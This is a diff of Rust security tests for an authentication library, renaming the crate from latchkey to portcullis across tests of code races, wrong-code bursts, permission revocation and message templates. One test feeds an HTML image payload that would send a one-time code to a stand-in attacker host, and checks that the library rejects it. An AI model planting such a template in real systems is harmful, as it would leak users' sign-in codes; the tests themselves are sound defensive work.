@@ -7,11 +7,11 @@
 #[macro_use]
 mod support;
 
-use latchkey::crypto::Password;
-use latchkey::directory::MfaRequirement;
-use latchkey::model::{Membership, OrgId, User, UserId};
-use latchkey::store::{OrgStore, UserStore};
-use latchkey::{Error, RequestContext, SignIn};
+use portcullis::crypto::Password;
+use portcullis::directory::MfaRequirement;
+use portcullis::model::{Membership, OrgId, User, UserId};
+use portcullis::store::{OrgStore, UserStore};
+use portcullis::{Error, RequestContext, SignIn};
 use support::{Harness, app_code, base32_decode, code_of, harness, sled_harness};
 
 on_both_adapters!(
@@ -48,8 +48,8 @@ mod scenarios_on_sled {
 
     #[tokio::test]
     async fn wa09_a_passkey_registered_without_uv_stays_one_factor() {
-        let mut config = latchkey::Config::new("https://app.example.com");
-        config.passkeys.user_verification = latchkey::UserVerification::Preferred;
+        let mut config = portcullis::Config::new("https://app.example.com");
+        config.passkeys.user_verification = portcullis::UserVerification::Preferred;
         let h = sled_harness_with(config);
         scenarios::a_passkey_registered_without_uv_stays_one_factor(&h).await;
     }
@@ -61,7 +61,7 @@ fn ctx() -> RequestContext {
 
 /// An organization with default settings.
 async fn org<S>(h: &Harness<S>, name: &str, slug: &str) -> OrgId {
-    let new = latchkey::NewOrg::new(name, slug);
+    let new = portcullis::NewOrg::new(name, slug);
     h.auth.orgs().create(new).await.unwrap().id
 }
 
@@ -130,7 +130,7 @@ async fn a_pre_registered_accounts_enrolment_token_dies_when_the_owner_proves_th
 >(
     h: Harness<S>,
 ) {
-    let mut new = latchkey::NewOrg::new("Acme", "acme");
+    let mut new = portcullis::NewOrg::new("Acme", "acme");
     new.settings.mfa = MfaRequirement::Required;
     let acme = h.auth.orgs().create(new).await.unwrap().id;
     let attacker = ctx().with_org(acme);
@@ -208,7 +208,7 @@ async fn password_sign_ins_racing_an_account_claim_leave_no_session<S: UserStore
         .unwrap();
     let code = code_of(&h.mails().await.pop().unwrap().message);
     let auth = h.auth.clone();
-    let outcomes = latchkey::testing::race(9, move |n| {
+    let outcomes = portcullis::testing::race(9, move |n| {
         let auth = auth.clone();
         let code = code.clone();
         async move {
@@ -275,11 +275,11 @@ async fn a_burst_of_wrong_codes_is_counted_before_any_is_judged<S>(h: Harness<S>
     let last = h.auth.codes().email().send(email, &ctx()).await.unwrap();
     let right = code_of(&h.mails().await.pop().unwrap().message);
     let auth = h.auth.clone();
-    let outcomes = latchkey::testing::race(20, move |n| {
+    let outcomes = portcullis::testing::race(20, move |n| {
         let auth = auth.clone();
         let request = requests[n % 4].request_id;
         async move {
-            let wrong = latchkey::crypto::OneTimeCode::new("000000");
+            let wrong = portcullis::crypto::OneTimeCode::new("000000");
             auth.codes().email().verify(request, &wrong, &ctx()).await
         }
     })
@@ -323,13 +323,13 @@ async fn a_burst_of_wrong_proofs_spends_an_mfa_token_before_any_is_judged<S>(h: 
     };
     let auth = h.auth.clone();
     let token = step.mfa_token;
-    let outcomes = latchkey::testing::race(16, move |n| {
+    let outcomes = portcullis::testing::race(16, move |n| {
         let auth = auth.clone();
         let token = token.clone();
         async move {
             // Every racer from its own address: only the token's own count stops them.
             let ctx = RequestContext::new().with_ip([203, 0, 113, n as u8 + 1].into());
-            let wrong = latchkey::MfaProof::Totp(latchkey::crypto::OneTimeCode::new("000000"));
+            let wrong = portcullis::MfaProof::Totp(portcullis::crypto::OneTimeCode::new("000000"));
             auth.mfa().verify(&token, &wrong, &ctx).await
         }
     })
@@ -366,7 +366,7 @@ async fn verify_live_refuses_permissions_taken_away_since_the_token_was_signed<S
     let clerk = rbac
         .create_role(
             acme,
-            &latchkey::RoleSpec::new("clerk", &["invoices:write", "refunds:write"]),
+            &portcullis::RoleSpec::new("clerk", &["invoices:write", "refunds:write"]),
         )
         .await
         .unwrap();
@@ -380,7 +380,7 @@ async fn verify_live_refuses_permissions_taken_away_since_the_token_was_signed<S
     let sign_in = || async {
         let signed = h
             .auth
-            .complete_first_factor(ana.user_id, latchkey::AuthMethod::Email, None, &in_acme)
+            .complete_first_factor(ana.user_id, portcullis::AuthMethod::Email, None, &in_acme)
             .await
             .unwrap();
         let SignIn::Complete(tokens) = signed else {
@@ -388,7 +388,7 @@ async fn verify_live_refuses_permissions_taken_away_since_the_token_was_signed<S
         };
         tokens
     };
-    let live = |tokens: &latchkey::TokenSet| {
+    let live = |tokens: &portcullis::TokenSet| {
         let token = tokens.access_token.secret().to_owned();
         let auth = h.auth.clone();
         async move { auth.tokens().verify_live(&token).await }
@@ -430,7 +430,7 @@ async fn verify_live_refuses_permissions_taken_away_since_the_token_was_signed<S
     rbac.update_role(
         acme,
         clerk.id,
-        &latchkey::RoleSpec::new("clerk", &["refunds:write"]),
+        &portcullis::RoleSpec::new("clerk", &["refunds:write"]),
     )
     .await
     .unwrap();
@@ -533,20 +533,21 @@ async fn the_owners_device_is_served_when_many_clients_spent_a_number<S>(h: Harn
 struct PersonCheck;
 
 #[async_trait::async_trait]
-impl latchkey::protect::BotCheck for PersonCheck {
+impl portcullis::protect::BotCheck for PersonCheck {
     async fn verify(
         &self,
-        proof: &latchkey::crypto::BotProof,
+        proof: &portcullis::crypto::BotProof,
         _: &RequestContext,
     ) -> Result<bool, Error> {
         Ok(proof.secret() == "a person")
     }
 }
 
-fn soft_and_hard_sms_budget() -> latchkey::Config {
-    let mut config = latchkey::Config::new("https://app.example.com");
-    config.sms.global_soft = latchkey::RateLimit::sliding(3, std::time::Duration::from_secs(3600));
-    config.sms.global = latchkey::RateLimit::sliding(8, std::time::Duration::from_secs(3600));
+fn soft_and_hard_sms_budget() -> portcullis::Config {
+    let mut config = portcullis::Config::new("https://app.example.com");
+    config.sms.global_soft =
+        portcullis::RateLimit::sliding(3, std::time::Duration::from_secs(3600));
+    config.sms.global = portcullis::RateLimit::sliding(8, std::time::Duration::from_secs(3600));
     config
 }
 
@@ -641,11 +642,11 @@ async fn an_org_admin_can_neither_word_a_code_away_nor_pull_an_outsider_in<S>(h:
     let evil = org(&h, "Evil", "evil").await;
     for text in ["{{ code }}", "{{link}}", "<img src=https://evil.example/p>"] {
         let mut wording =
-            latchkey::directory::MessageWording::new(latchkey::MessageKind::EmailCode, None);
+            portcullis::directory::MessageWording::new(portcullis::MessageKind::EmailCode, None);
         wording.intro = Some(format!("Your code: {text}"));
-        let mut settings = latchkey::OrgSettings::default();
+        let mut settings = portcullis::OrgSettings::default();
         settings.templates = vec![wording];
-        let mut update = latchkey::OrgUpdate::default();
+        let mut update = portcullis::OrgUpdate::default();
         update.settings = Some(settings);
         let refused = h.auth.orgs().update(evil, &update).await;
         assert!(
@@ -655,7 +656,7 @@ async fn an_org_admin_can_neither_word_a_code_away_nor_pull_an_outsider_in<S>(h:
     }
     let html = serde_json::json!({"templates": [{"kind": "email_code", "subject": "s",
         "text": "{{code}}", "html": "<img src=\"https://evil.example/?c={{ code }}\">"}]});
-    assert!(serde_json::from_value::<latchkey::OrgSettings>(html).is_err());
+    assert!(serde_json::from_value::<portcullis::OrgSettings>(html).is_err());
 
     let SignIn::Complete(victim) = owner_proves(&h, "victim@example.com").await else {
         panic!("signed in")
@@ -716,14 +717,14 @@ async fn a_sign_up_answers_a_taken_address_as_a_free_one<S>(h: Harness<S>) {
     let to = |who: &str| mails.iter().rev().find(|m| m.to.as_str() == who).unwrap();
     assert_eq!(
         to("ana@example.com").message.kind,
-        latchkey::MessageKind::SignUpAttempt
+        portcullis::MessageKind::SignUpAttempt
     );
     assert!(to("ana@example.com").message.code.is_none());
     assert_eq!(
         to("bo@example.com").message.kind,
-        latchkey::MessageKind::EmailCode
+        portcullis::MessageKind::EmailCode
     );
-    let guess = latchkey::crypto::OneTimeCode::new("123456");
+    let guess = portcullis::crypto::OneTimeCode::new("123456");
     let refused = h
         .auth
         .sign_ups()
@@ -748,7 +749,7 @@ async fn a_verified_link_collected_after_a_credential_change_opens_nothing<
         panic!("signed in")
     };
     h.clock.advance(std::time::Duration::from_secs(61));
-    let options = latchkey::LinkOptions::new();
+    let options = portcullis::LinkOptions::new();
     let sent = h
         .auth
         .magic_links()
@@ -756,7 +757,7 @@ async fn a_verified_link_collected_after_a_credential_change_opens_nothing<
         .await
         .unwrap();
     let link = support::link_token(&h.mails().await.pop().unwrap());
-    let proof = latchkey::DeviceProof::none().with_poll_token(sent.poll_token.clone());
+    let proof = portcullis::DeviceProof::none().with_poll_token(sent.poll_token.clone());
     let opened = h
         .auth
         .magic_links()
@@ -773,7 +774,7 @@ async fn a_verified_link_collected_after_a_credential_change_opens_nothing<
         .status(sent.request_id, &sent.poll_token, &ctx())
         .await;
     assert!(
-        !matches!(collected, Ok(latchkey::LinkStatus::Verified(_))),
+        !matches!(collected, Ok(portcullis::LinkStatus::Verified(_))),
         "the asking tab got a session after the credential change: {collected:?}"
     );
 }
